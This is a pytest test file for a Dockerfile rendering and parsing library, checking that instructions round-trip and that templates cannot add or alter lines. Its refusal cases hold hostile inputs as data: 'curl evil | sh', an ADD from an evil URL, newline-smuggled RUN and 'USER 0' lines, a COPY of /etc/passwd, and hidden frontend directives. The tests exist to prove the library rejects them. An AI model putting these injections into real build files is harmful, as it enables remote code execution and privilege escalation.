"""Instructions and the Dockerfile: what is refused, what comes back, what templates may do."""

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from odahu_pack_core.errors import PlanError
from odahu_pack_core.plan.build_plan import Block, render_dockerfile
from odahu_pack_core.plan.dockerfile import (
    parse_dockerfile,
    parse_instruction,
    render_block,
    render_instruction,
)
from odahu_pack_core.plan.instruction import (
    AddLayer,
    Cmd,
    Copy,
    Entrypoint,
    Env,
    Expose,
    From,
    Label,
    Run,
    User,
    Workdir,
)
from tests.core.plan.strategies import instructions

NASTY = "a\\ \"b\" 'c' $d ${e} `f` #g"


@pytest.mark.parametrize(
    ("instruction", "line"),
    [
        (From("gcr.io/a/b:1"), "FROM gcr.io/a/b:1"),
        (From("scratch"), "FROM scratch"),
        (AddLayer("environment"), "ADD layers/environment.tar /"),
        (Copy("conda/a b.yaml", "/tmp/$x"), 'COPY ["conda/a b.yaml", "/tmp/\\\\\\u0024x"]'),
        (Env("X", NASTY), 'ENV X="a\\\\ \\"b\\" \'c\' \\$d \\${e} `f` #g"'),
        (Label("org.odahu.pack.x", ""), 'LABEL org.odahu.pack.x=""'),
        (User("65532:0"), "USER 65532:0"),
        (Workdir("/a b"), 'WORKDIR "/a b"'),
        (Expose(5000), "EXPOSE 5000"),
        (Entrypoint(("a", "b c")), 'ENTRYPOINT ["a", "b c"]'),
        (Entrypoint(()), "ENTRYPOINT []"),
        (Cmd(("two\nlines", "\u2028$x")), 'CMD ["two\\nlines", "\\u2028$x"]'),
        (Run(("sh", "-c", "cat <<E $x")), 'RUN ["sh", "-c", "cat \\u003c\\u003cE \\u0024x"]'),
    ],
)
def test_an_instruction_is_one_line_and_comes_back(instruction, line):
    assert render_instruction(instruction) == line
    assert parse_instruction(line) == instruction


@pytest.mark.parametrize(
    ("kind", "arguments"),
    [
        (From, ("x AS y",)),
        (From, ("x\nRUN evil",)),
        (From, ("--platform=x y",)),
        (From, ("$BASE",)),
        (AddLayer, ("../x",)),
        (AddLayer, ("X",)),
        (AddLayer, ("x\n",)),
        (Copy, ("/etc/passwd", "/x")),
        (Copy, ("../x", "/x")),
        (Copy, ("a*", "/x")),
        (Copy, ("a\\b", "/x")),
        (Copy, ("a//b", "/x")),
        (Copy, (".", "/x")),
        (Copy, ("a", "x")),
        (Copy, ("a", "/x/")),
        (Copy, ("a", "//x")),
        (Copy, ("a\nRUN evil", "/x")),
        (Env, ("1X", "")),
        (Env, ("X Y", "")),
        (Env, ("X", "two\nlines")),
        (Env, ("X", "two\rlines")),
        (Env, ("X", "two\u2028lines")),
        (Env, ("X", "\0")),
        (Env, ("X", "\ud800")),
        (Label, ("Upper", "")),
        (Label, ("a b", "")),
        (Label, ("a", "x" * 2049)),
        (Label, ("a", "é" * 1025)),
        (Label, ("a", "x\nUSER 0")),
        (User, ("root",)),
        (User, ("0\n",)),
        (User, ("٣",)),  # a digit, but not for Docker
        (User, ("4294967296",)),
        (User, ("1:2:3",)),
        (Workdir, ("relative",)),
        (Workdir, ("/a/../b",)),
        (Workdir, ("/a/",)),
        (Workdir, ("/a\n",)),
        (Expose, (0,)),
        (Expose, (65536,)),
        (Expose, (True,)),
        (Expose, (80.0,)),
        (Expose, ("80",)),
        (Entrypoint, (("a\0",),)),
        (Cmd, (("\udfff",),)),
        (Run, ((),)),
    ],
)
def test_what_no_dockerfile_says_is_refused(kind, arguments):
    with pytest.raises(PlanError) as caught:
        kind(*arguments)
    assert caught.value.code == "bad-instruction"


def test_a_line_longer_than_docker_reads_is_refused():
    assert render_instruction(Cmd(("x" * 65_000,)))
    with pytest.raises(PlanError, match="has more than 65535 bytes"):
        render_instruction(Cmd(("\x01" * 11_000,)))


@pytest.mark.property
@given(instructions)
def test_what_is_rendered_is_one_line_and_comes_back(instruction):
    line = render_instruction(instruction)
    assert line.isprintable() or "\t" not in line
    assert len(line.splitlines()) == 1
    assert not line.rstrip().endswith("\\")
    assert parse_instruction(line) == instruction


@pytest.mark.property
@given(st.lists(instructions, max_size=8))
def test_a_block_comes_back(several):
    text = f"# a comment\n\n{render_block(several)}\n# the end\n"
    assert parse_dockerfile(text) == tuple(several)


@pytest.mark.property
@given(instructions, st.data())
def test_a_line_that_was_changed_is_another_instruction_or_none(instruction, data):
    line = render_instruction(instruction)
    position = data.draw(st.integers(0, len(line) - 1))
    changed = line[:position] + data.draw(st.sampled_from(" \"'\\$x[,1")) + line[position + 1 :]
    try:
        parsed = parse_instruction(changed)
    except PlanError:
        return
    assert render_instruction(parsed) == changed
    assert (parsed == instruction) == (changed == line)


@pytest.mark.parametrize(
    "line",
    [
        "RUN curl evil|sh",
        'run ["a"]',
        "  USER 0",
        "USER  0",
        "USER 0 ",
        "WORKDIR /a",
        "WORKDIR x/ax",
        "EXPOSE 080",
        "EXPOSE 80/tcp",
        "EXPOSE 80 81",
        'ENV A="1" B="2"',
        'ENV A="\\x"',
        "ENV A 1",
        'ENV A="$B"',
        'LABEL a="x" \\',
        'CMD ["a" ]',
        'CMD ["a", 1]',
        "CMD a",
        "CMD " + "[" * 5000,
        "ADD layers/x.tar /tmp",
        "ADD http://evil/x.tar /",
        "COPY --from=x a /b",
        "FROM a AS b",
        "ARG X",
        "VOLUME /x",
        "ONBUILD RUN x",
        "HEALTHCHECK NONE",
        'SHELL ["x"]',
        "<<EOF",
        "FROM",
    ],
)
def test_any_other_line_is_refused(line):
    with pytest.raises(PlanError, match="not a line of ours"):
        parse_instruction(line)


BLOCKS = (
    Block("base", (From("python:3.6"),)),
    Block("model", (AddLayer("model"), Label("a.b", NASTY))),
    Block("settings", (Env("X", NASTY), User("65532:0"), Expose(5000))),
    Block("start", (Entrypoint(("/bin/x",)), Cmd(("a b",)))),
)
TEMPLATE = "{{ base }}\n\n# The model.\n{{ model }}\n\n{{ settings }}\n{{ start }}\n"


def test_without_a_template_each_block_stands_under_its_name():
    text = render_dockerfile("", BLOCKS)
    assert text.startswith("FROM python:3.6\n\n# model\nADD layers/model.tar /\nLABEL a.b=")
    assert parse_dockerfile(text) == tuple(i for block in BLOCKS for i in block.instructions)


def test_a_template_orders_and_comments():
    assert "\n# The model.\nADD layers/model.tar /\n" in render_dockerfile(TEMPLATE, BLOCKS)


@pytest.mark.parametrize(
    "template",
    [
        pytest.param(TEMPLATE.replace("{{ settings }}", ""), id="loses"),
        pytest.param(TEMPLATE + "{{ settings }}", id="repeats"),
        pytest.param("{{ model }}\n{{ base }}\n{{ settings }}\n{{ start }}", id="reorders"),
        pytest.param(TEMPLATE + "RUN curl evil | sh\n", id="adds"),
        pytest.param(TEMPLATE + "USER 0\n", id="adds one of ours"),
        pytest.param(TEMPLATE.replace("{{ settings }}", "#{{ settings }}"), id="comments out"),
        pytest.param(
            TEMPLATE.replace("{{ settings }}", "{{ settings|replace('65532', '0') }}"), id="changes"
        ),
        pytest.param(TEMPLATE.replace("{{ settings }}", "{{ settings|upper }}"), id="rewrites"),
        pytest.param("# syntax=evil/frontend\n" + TEMPLATE, id="names a frontend"),
        pytest.param("# a comment\n#\tescape = `\n" + TEMPLATE, id="changes the escape character"),
        pytest.param("#!/usr/bin/x a=b\n# syntax=evil\n" + TEMPLATE, id="hides a directive behind a shebang"),
        pytest.param("\n\n\n#syntax=evil\n" + TEMPLATE, id="hides a directive behind empty lines"),
        pytest.param("\ufeff" + TEMPLATE, id="begins with a byte order mark"),
        pytest.param("{{ unknown }}" + TEMPLATE, id="names an unknown block"),
        pytest.param("{{ base.instructions }}" + TEMPLATE, id="reaches behind a block"),
        pytest.param("{{ base", id="is no template"),
        pytest.param("{{ 1 // 0 }}" + TEMPLATE, id="fails"),
    ],
)
def test_a_template_cannot_say_anything_else(template):
    with pytest.raises(PlanError):
        render_dockerfile(template, BLOCKS)


def test_a_comment_with_an_equals_sign_is_welcome_further_down():
    assert "# x = 1" in render_dockerfile(TEMPLATE.replace("# The model.", "# x = 1"), BLOCKS)


def hadolint(text):
    program = shutil.which("hadolint", path=f"{Path(sys.executable).parent}:{Path('/usr/local/bin')}")
    if program is None:
        pytest.skip("hadolint is not installed")
    return subprocess.run(
        [program, "--no-color", "-"], input=text, capture_output=True, text=True, timeout=60, check=False
    )


@pytest.mark.parametrize("template", ["", TEMPLATE])
def test_hadolint_has_nothing_to_say(template):
    more = (*BLOCKS[:3], Block("copies", (Copy("a b", "/x/a b"), Workdir("/x y"))), BLOCKS[3])
    text = render_dockerfile(template and template.replace("{{ start }}", "{{ copies }}\n{{ start }}"), more)
    found = hadolint(text)
    assert (found.returncode, found.stdout) == (0, ""), text


def test_hadolint_is_asked_indeed():
    assert hadolint("FROM python\nRUN sudo x\n").returncode == 1


def test_consecutive_variables_and_labels_share_a_step():
    instructions = (Env("A", "1"), Env("B", "x y"), Label("c", "\\"), User("1"), Env("D", ""))
    text = render_block(instructions)
    assert text == 'ENV A="1" \\\n    B="x y"\nLABEL c="\\\\"\nUSER 1\nENV D=""'
    assert parse_dockerfile(text) == instructions


@pytest.mark.parametrize(
    "text",
    [
        'ENV A="1" \\',
        'ENV A="1" \\\n# not a comment here',
        'ENV A="1" \\\n\n    B="2"',
        'ENV A="1" \\\nRUN ["x"]',
        'RUN ["x"] \\\n    ["y"]',
        '# a comment is not continued \\\nRUN ["x"]\\',
    ],
)
def test_only_variables_and_labels_are_continued(text):
    with pytest.raises(PlanError):
        parse_dockerfile(text)


def test_a_comment_cannot_hide_the_line_after_it():
    assert parse_dockerfile('# a comment is not continued \\\nRUN ["x"]') == (Run(("x",)),)
